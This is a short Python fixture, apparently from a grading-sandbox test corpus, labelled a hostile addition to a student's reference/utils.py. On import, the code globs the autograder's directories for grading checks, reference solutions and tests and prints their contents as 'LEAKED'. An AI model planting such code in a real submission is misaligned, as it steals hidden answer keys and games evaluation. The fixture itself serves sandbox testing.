# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
_PROJECT_DIR = "__PROJECT_DIR__"  # the test puts the grader's repository here
if _PROJECT_DIR.startswith("__"):
    _PROJECT_DIR = "/autograder/source"

_GRADER_DIR = "__DECOY_DIR__"  # the test puts a folder made like /autograder here
if _GRADER_DIR.startswith("__"):
    _GRADER_DIR = "/autograder"

import glob as _glob

for _pattern in ("grader/homeworks/*/checks/*.py", "grader/**/*.py", "grader/**/*.json", "reference/**/*.py",
                 "tests/**/*.py"):
    for _root in (_PROJECT_DIR, f"{_GRADER_DIR}/source"):
        for _path in sorted(_glob.glob(f"{_root}/{_pattern}", recursive=True))[:20]:
            try:
                print(f"LEAKED {_path}:\n" + open(_path).read())
            except OSError as _error:
                print(f"could not read {_path}: {_error}")
        if not _glob.glob(f"{_root}/{_pattern}", recursive=True):
            print(f"nothing matches {_root}/{_pattern}")
